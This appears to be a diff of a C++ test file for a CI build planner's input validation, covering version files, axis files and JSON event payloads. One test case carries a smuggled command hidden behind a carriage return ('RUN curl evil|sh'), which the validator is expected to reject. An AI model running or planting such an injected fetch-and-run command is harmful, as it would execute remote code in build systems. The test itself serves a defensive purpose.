@@ -40,8 +40,8 @@ Arrange removed(const std::string& file) {
 struct InputCase {
   std::string what;
   Arrange arrange;
-  std::string said;      ///< part of the description, which begins with file and line
-  int line = 0;          ///< 0 = the file as a whole
+  std::string said;  ///< part of the description, which begins with file and line
+  int line = 0;      ///< 0 = the file as a whole
 };
 
 void PrintTo(const InputCase& row, std::ostream* out) { *out << row.what; }
@@ -95,12 +95,17 @@ INSTANTIATE_TEST_SUITE_P(
         InputCase{"comment", contents(kPythons, "3.11 # old\n"), "PYTHON_VERSIONS:1:1", 1},
         InputCase{"command behind CR (A14)", contents(kPythons, "3.10\rRUN curl evil|sh\n"), "RUN curl", 1},
         InputCase{"FROM alias (A14)", contents(kPythons, "3.10 AS x\n"), "found \"3.10 AS x\"", 1},
-        InputCase{"byte-order mark", contents(kPythons, "\xEF\xBB\xBF" "3.11\n"), "byte-order mark", 1},
+        InputCase{"byte-order mark",
+                  contents(kPythons,
+                           "\xEF\xBB\xBF"
+                           "3.11\n"),
+                  "byte-order mark", 1},
         InputCase{"link", replaced_by_link(kPythons), "symbolic link"},
         InputCase{"directory", replaced_by_directory(kPythons), "is a directory"}));
 
 TEST(GoodFiles, MayEndInCrlfOrNothing) {
   Project project;
+  project.init();
   project.invocation.event = "schedule";
   project.invocation.ref = "refs/heads/main";
   project.write("VERSION", "v1.2.3\r\n");
@@ -113,6 +118,7 @@ TEST(GoodFiles, MayEndInCrlfOrNothing) {
 
 TEST(AxisFiles, HoldAtMost256Cells) {
   Project project;
+  project.init();
   project.invocation.event = "schedule";
   project.invocation.ref = "refs/heads/main";
   project.configuration.axes[0] = {.name = "python", .file = "", .values = {"3.11"}};
@@ -127,6 +133,7 @@ TEST(AxisFiles, HoldAtMost256Cells) {
 
 TEST(AxisFiles, MayNotNameTwoCellsAlike) {
   Project project;
+  project.init();
   project.invocation.event = "schedule";
   project.invocation.ref = "refs/heads/main";
   project.configuration.cell = "py{python}";
@@ -137,6 +144,7 @@ TEST(AxisFiles, MayNotNameTwoCellsAlike) {
 
 class Payloads : public ::testing::Test {
  protected:
+  Payloads() { project.init(); }
   Result<pipeline::Plan> plan_with(const std::string& payload) {
     project.invocation.event = "workflow_dispatch";
     project.invocation.ref = "refs/heads/main";
@@ -149,7 +157,6 @@ class Payloads : public ::testing::Test {
     EXPECT_FALSE(plan) << bytes.substr(0, 100);
     if (plan) return {};
     EXPECT_EQ(plan.error().code, ErrorCode::bad_input);
-    EXPECT_FALSE(plan.error().hint.empty()) << plan.error().message;
     return plan.error();
   }
   Project project;
@@ -170,7 +177,7 @@ TEST_F(Payloads, MustBeRegularFiles) {
 
 TEST_F(Payloads, MustBeSoundJson) {
   EXPECT_THAT(refused(R"({"inputs":{"REBUILD_BASE":"tr)").message, HasSubstr("event payload"));
-  EXPECT_THAT(refused(R"({"inputs":{"a":"\ud800"}})").message, HasSubstr("event payload"));
+  EXPECT_THAT(refused(R"({"inputs":{"a":"\ud800"}})").message, AllOf(HasSubstr("surrogate"), HasSubstr("\\ud800")));
   EXPECT_THAT(refused("{\"inputs\":{\"a\":\"\xed\xa0\x80\"}}").message, HasSubstr("event payload"));
   EXPECT_THAT(refused("\xEF\xBB\xBF{}").message, HasSubstr("event payload"));
   EXPECT_THAT(refused("{} {}").message, HasSubstr("event payload"));
